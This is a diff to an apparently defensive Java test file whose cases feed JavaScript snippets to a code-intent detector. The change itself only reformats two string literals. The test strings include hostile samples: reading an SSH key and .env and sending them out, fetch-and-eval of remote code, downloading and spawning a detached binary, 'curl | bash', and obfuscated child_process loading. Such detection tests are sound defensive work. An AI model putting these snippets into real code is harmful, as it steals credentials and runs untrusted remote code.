@@ -60,10 +60,15 @@ final class IntentCases {
                 kept("const keys = readFileSync('/root/.ssh/id_rsa.pub', 'utf8');\n" + POST + "keys });"),
                 kept("const all = readFileSync('.env', 'utf8');\nfetch('http://127.0.0.1:80/', { body: all });"),
                 controlled("const r = await fetch('https://host.example/a.js');\neval(await r.text());"),
-                controlled(
-                        "const { spawn } = require('child_process');\nconst fs = require('fs');\nconst os = require('os');\n"
-                                + "const r = await fetch('https://host.example/a');\nconst f = os.tmpdir() + '/helper';\n"
-                                + "fs.writeFileSync(f, await r.text());\nspawn(f, [], { detached: true });"),
+                controlled("""
+                        const { spawn } = require('child_process');
+                        const fs = require('fs');
+                        const os = require('os');
+                        const r = await fetch('https://host.example/a');
+                        const f = os.tmpdir() + '/helper';
+                        fs.writeFileSync(f, await r.text());
+                        spawn(f, [], { detached: true });\
+                        """),
                 controlled("require('child_process').exec('curl -s https://host.example/a | bash', () => {});"),
                 fails(
                         "REMOTE_CONTROL",
@@ -75,13 +80,16 @@ final class IntentCases {
                         "REMOTE_CONTROL",
                         "a.js",
                         "const r = await fetch('https://host.example/a', { headers: { k: process.env.KEY } });\neval(await r.text());"),
-                passes(
-                        "REMOTE_CONTROL",
-                        "a.js",
-                        "const { spawn } = require('child_process');\nconst fs = require('fs');\nconst { createHash } = require('crypto');\n"
-                                + "const r = await fetch('https://host.example/a');\nconst b = await r.text();\n"
-                                + "if (createHash('sha256').update(b).digest('hex') !== 'aa') throw new Error();\n"
-                                + "fs.writeFileSync('/opt/helper', b);\nspawn('/opt/helper', []);"),
+                passes("REMOTE_CONTROL", "a.js", """
+                        const { spawn } = require('child_process');
+                        const fs = require('fs');
+                        const { createHash } = require('crypto');
+                        const r = await fetch('https://host.example/a');
+                        const b = await r.text();
+                        if (createHash('sha256').update(b).digest('hex') !== 'aa') throw new Error();
+                        fs.writeFileSync('/opt/helper', b);
+                        spawn('/opt/helper', []);\
+                        """),
                 hidden("eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString());"),
                 hidden("const m = require('child_' + 'process');"),
                 hidden("const m = require(['child', 'process'].join('_'));"),
